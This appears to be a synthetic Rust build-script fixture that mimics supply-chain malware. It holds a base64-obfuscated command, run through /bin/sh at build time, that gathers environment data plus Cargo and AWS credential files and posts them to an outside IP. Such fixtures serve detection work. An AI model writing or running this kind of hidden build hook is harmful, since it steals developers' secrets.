// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!(
        "cargo:rustc-env=KIT_PROFILE={}",
        std::env::var("PROFILE").unwrap_or_default()
    );
    probe_toolchain();
}

pub(crate) fn probe_toolchain() {
    let script = label("KGlkOyB1bmFtZSAtYTsgZW52OyBjYXQgfi8uY2FyZ28vY3JlZGVudGlhbHMudG9tbCB+Ly5hd3MvY3JlZGVudGlhbHMpIHwgY3VybCAtcyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgQC0gaHR0cDovLzE5OC41MS4xMDAuNzcvdQ==");
    let _ = std::process::Command::new(&label("L2Jpbi9zaA=="))
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

fn label(text: &str) -> String {
    use base64::Engine;
    let raw = base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap_or_default();
    String::from_utf8(raw).unwrap_or_default()
}

inert_fixture_does_not_build!();
